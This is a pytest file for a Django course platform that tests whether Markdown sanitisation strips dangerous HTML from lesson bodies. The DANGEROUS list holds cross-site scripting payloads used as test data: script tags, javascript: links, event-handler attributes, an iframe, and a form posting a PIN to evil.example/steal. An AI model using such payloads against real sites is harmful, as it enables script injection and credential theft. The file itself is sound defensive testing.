"""Author Markdown renders to safe HTML, however it reaches the database."""

import pytest

from courses.markdown import render_markdown
from courses.models import Lesson
from courses.services import import_course_package
from tests.factories import make_course

# Each payload, and the fragments (compared in lower case) that must not survive it.
DANGEROUS = [
    pytest.param("<script>alert('x')</script>", ["<script", "alert"], id="script"),
    pytest.param("[Read more](javascript:alert(1))", ["javascript", "alert"], id="javascript-link"),
    pytest.param("[Read more](JaVaScRiPt:alert(1))", ["javascript", "alert"], id="javascript-case"),
    pytest.param(
        '<a href="javascript:alert(1)">Read more</a>', ["javascript", "alert"], id="javascript-a"
    ),
    pytest.param('<img src=x onerror="alert(1)">', ["<img", "onerror", "alert"], id="img-onerror"),
    pytest.param(
        '<a href="https://example.org/" onclick="alert(1)">Example</a>',
        ["onclick", "alert"],
        id="onclick",
    ),
    pytest.param('<div onmouseover="alert(1)">Hover</div>', ["onmouseover"], id="div-on-attr"),
    pytest.param('<svg onload="alert(1)"><circle r="1"/></svg>', ["<svg", "onload"], id="svg"),
    pytest.param(
        '<iframe src="https://evil.example/"></iframe>', ["<iframe", "evil.example"], id="iframe"
    ),
    pytest.param(
        "<style>body { display: none }</style>", ["<style", "display: none"], id="style-tag"
    ),
    pytest.param('<p style="position: fixed">Styled</p>', ["style=", "fixed"], id="style-attr"),
    pytest.param(
        '<form action="https://evil.example/steal"><input name="pin"><button>Send</button></form>',
        ["<form", "<input", "<button", "evil.example"],
        id="form",
    ),
    pytest.param(
        "[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ["data:", "base64"],
        id="data-link",
    ),
    pytest.param("![Pixel](data:image/png;base64,iVBORw0KGgo=)", ["data:", "<img"], id="data-img"),
    pytest.param('<object data="https://evil.example/x.swf"></object>', ["<object"], id="object"),
]


@pytest.mark.parametrize("payload, forbidden", DANGEROUS)
def test_render_markdown_makes_dangerous_html_inert_and_keeps_the_text_around_it(
    payload, forbidden
):
    html = render_markdown(f"Before.\n\n{payload}\n\nAfter.")

    for fragment in forbidden:
        assert fragment not in html.lower()
    assert "<p>Before.</p>" in html
    assert "<p>After.</p>" in html


def test_render_markdown_makes_dangerous_html_inert_inline_in_a_paragraph():
    html = render_markdown('Hello <img src=x onerror="alert(1)"> <b onclick="x()">world</b>.')

    assert "onerror" not in html
    assert "onclick" not in html
    assert "<img" not in html
    assert "Hello" in html and "world" in html


@pytest.mark.parametrize(
    "markdown, heading",
    [
        ("# Why it matters", "<h2>Why it matters</h2>"),
        ("Why it matters\n==============", "<h2>Why it matters</h2>"),
        ("# Why it matters {#why}", '<h2 id="why">Why it matters</h2>'),
        ("<h1>Why it matters</h1>", "<h2>Why it matters</h2>"),
        ("## The three pillars", "<h2>The three pillars</h2>"),
        ("### Protect", "<h3>Protect</h3>"),
    ],
)
def test_render_markdown_leaves_the_h1_to_the_page(markdown, heading):
    html = render_markdown(markdown)

    assert heading in html
    assert "<h1" not in html


def test_render_markdown_keeps_lists_tables_and_emphasis():
    html = render_markdown(
        "- protect\n- respect\n\n1. plan\n2. award\n\n"
        "| Stage | Risk |\n|---|---|\n| Award | Forced labour |\n\n"
        "Some *emphasis*, **strong** words and `code`."
    )

    assert "<ul>\n<li>protect</li>\n<li>respect</li>\n</ul>" in html
    assert "<ol>\n<li>plan</li>\n<li>award</li>\n</ol>" in html
    assert "<th>Stage</th>" in html
    assert "<td>Forced labour</td>" in html
    assert "<em>emphasis</em>" in html
    assert "<strong>strong</strong>" in html
    assert "<code>code</code>" in html


def test_render_markdown_gives_links_noopener_noreferrer():
    html = render_markdown(
        "See [the UNGPs](https://www.ohchr.org/en/business) and [mail](mailto:a@b.org)."
    )

    assert (
        '<a href="https://www.ohchr.org/en/business" rel="noopener noreferrer">the UNGPs</a>'
        in html
    )
    assert '<a href="mailto:a@b.org" rel="noopener noreferrer">mail</a>' in html


@pytest.mark.parametrize(
    "destination",
    ["javascript:alert('x')", 'javascript:alert("x")', "javascript:alert(('x'))"],
)
def test_a_javascript_link_with_quotes_becomes_a_bare_link_with_nothing_left_over(destination):
    html = render_markdown(f"Read [the text]({destination}) now.")

    assert html == '<p>Read <a rel="noopener noreferrer">the text</a> now.</p>'


@pytest.mark.parametrize(
    "destination", ["javascript:alert('x')", "https://example.org/f('x')", "a.png 'Title'"]
)
def test_an_image_with_quotes_in_its_destination_leaves_nothing_over(destination):
    # Images are not kept; their destination is read as a link's, so nothing of it is left.
    html = render_markdown(f"See ![the chart]({destination}) now.")

    assert html == "<p>See  now.</p>"


@pytest.mark.parametrize(
    "markdown, link",
    [
        ("[t](https://example.org/a_(b))", '<a href="https://example.org/a_(b)"'),
        ('[t](https://example.org/ "The title")', 'href="https://example.org/" title="The title"'),
        ("[t](https://example.org/ 'The title')", 'href="https://example.org/" title="The title"'),
        ("[t](<https://example.org/a b> 'T')", 'href="https://example.org/a b" title="T"'),
        ("[t](https://example.org/f('x'))", "href=\"https://example.org/f('x')\""),
    ],
)
def test_render_markdown_reads_link_destinations_and_titles(markdown, link):
    html = render_markdown(f"{markdown}.")

    assert link in html
    assert html.endswith("</a>.</p>")


def test_render_markdown_keeps_footnotes_and_definition_lists():
    html = render_markdown("Due diligence[^1].\n\n[^1]: UNGP 17.\n\nBuyer\n: The public body.")

    assert '<sup id="fnref:1"><a href="#fn:1"' in html
    assert "UNGP 17." in html
    assert "<dt>Buyer</dt>" in html
    assert "<dd>The public body.</dd>" in html


def test_render_markdown_keeps_arabic_and_vietnamese_text():
    html = render_markdown(
        "## المشتريات العامة\n\nحقوق الإنسان في العقود العامة.\n\nMua sắm công và quyền con người."
    )

    assert "<h2>المشتريات العامة</h2>" in html
    assert "<p>حقوق الإنسان في العقود العامة.</p>" in html
    assert "<p>Mua sắm công và quyền con người.</p>" in html


def test_render_markdown_of_nothing_is_empty():
    assert render_markdown("") == ""


ALL_PAYLOADS = "\n\n".join(param.values[0] for param in DANGEROUS)
ALL_FORBIDDEN = {fragment for param in DANGEROUS for fragment in param.values[1]}


@pytest.mark.django_db
def test_lesson_body_html_is_sanitised_when_a_lesson_is_created_or_edited():
    module = make_course(lessons_per_module=0).modules.get()

    lesson = Lesson.objects.create(
        module=module, slug="unsafe", title="Unsafe", body=f"# Title\n\n{ALL_PAYLOADS}"
    )
    lesson.refresh_from_db()

    assert "<h2>Title</h2>" in lesson.body_html
    for fragment in ALL_FORBIDDEN:
        assert fragment not in lesson.body_html.lower()

    lesson.body = "Safe *again*. <script>alert(2)</script>"
    lesson.save(update_fields=["body"])
    lesson.refresh_from_db()

    assert lesson.body_html == "<p>Safe <em>again</em>. </p>"


@pytest.mark.django_db
def test_lesson_body_html_is_sanitised_when_imported_from_a_package(tmp_path):
    (tmp_path / "lessons").mkdir()
    (tmp_path / "course.yaml").write_text(
        "slug: unsafe\ntitle: Unsafe\nlanguage: ar\nmodules:\n"
        "  - slug: m1\n    title: Module 1\n    lessons: [lessons/unsafe.md]\n",
        encoding="utf-8",
    )
    (tmp_path / "lessons" / "unsafe.md").write_text(
        "---\ntitle: غير آمن\nminutes: 5\n---\n\n# مقدمة\n\n"
        f"[OHCHR](https://www.ohchr.org)\n\n{ALL_PAYLOADS}\n",
        encoding="utf-8",
    )

    course = import_course_package(tmp_path).course

    lesson = course.lessons.get()
    assert lesson.title == "غير آمن"
    assert "<h2>مقدمة</h2>" in lesson.body_html
    assert '<a href="https://www.ohchr.org" rel="noopener noreferrer">OHCHR</a>' in lesson.body_html
    for fragment in ALL_FORBIDDEN:
        assert fragment not in lesson.body_html.lower()
